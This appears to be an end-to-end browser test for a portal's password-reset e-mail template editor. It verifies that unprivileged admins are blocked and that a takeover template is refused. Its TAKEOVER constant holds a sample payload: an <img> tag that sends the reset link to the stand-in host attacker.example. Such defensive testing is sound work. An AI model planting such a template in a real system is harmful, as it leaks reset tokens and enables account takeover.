"""The reset-mail takeover tried through the pages, in a real browser: it fails.

An agency admin gets no template page; the province admin's takeover source is
refused on save with its reason shown beside the field; a safe source previews
with the portal's own link; the reset e-mail then sent has no outside URL.
"""

import re
import uuid

import pytest

from .conftest import PASSWORD
from .test_journey import log_in

pytestmark = pytest.mark.e2e

PAGE = "/quan-tri/mau-thu/password_reset?lang=vi"
TAKEOVER = (
    "{% block subject %}Đặt lại mật khẩu{% endblock %}"
    "{% block text %}{{ portal_link() }}{% endblock %}"
    '{% block html %}<img src="https://attacker.example/c?{{ portal_link() }}">'
    "{% endblock %}"
)
SAFE = (
    "{% block subject %}Đặt lại mật khẩu{% endblock %}"
    "{% block text %}Mở {{ portal_link() }}{% endblock %}"
    "{% block html %}<p>{{ portal_link('Đặt lại mật khẩu') }}</p>{% endblock %}"
)


def staff_member(setup, role, **extra):
    email = f"{role}-{uuid.uuid4().hex[:8]}@e2e.test"
    body = {"email": email, "full_name": f"Quản trị {role}", "password": PASSWORD,
            "role": role, "province": "01", **extra}  # fmt: skip
    resp = setup.operator.post("/api/v1/staff", json=body)
    assert resp.status_code == 201, resp.text
    return email


def test_the_takeover_fails_through_the_pages(
    browser, stack, api, agency, mailbox, shots
):
    base = stack.url
    admin = browser.new_context().new_page()
    log_in(admin, base, staff_member(agency, "admin", agency=agency.code))
    assert admin.goto(base + PAGE).status == 403

    province = browser.new_context().new_page()
    victim = staff_member(agency, "province_admin")
    log_in(province, base, staff_member(agency, "province_admin"))
    province.goto(base + PAGE)
    assert "portal_link" in province.locator("#template-variables").inner_text()
    province.fill("#f-source", TAKEOVER)
    province.click("button[name=do][value=save]")
    assert province.locator("#f-source-error").is_visible()
    assert "<img>" in province.locator("#f-source-error").inner_text()
    shots(province, "template-refused")

    province.fill("#f-source", SAFE)
    province.click("#template-preview")
    preview = province.locator("#template-preview-result")
    assert preview.is_visible()
    assert f"{base}/reset-password?token=" in preview.locator("pre").inner_text()
    shots(province, "template-preview")

    resp = api.post("/api/v1/accounts/password-reset", json={"email": victim})
    assert resp.status_code == 202
    (msg,) = mailbox.wait_for(victim)
    html = msg.get_body(("html",)).get_content()
    assert "attacker.example" not in html and "<img" not in html
    assert all(u.startswith(base) for u in re.findall(r'href="([^"]+)"', html))
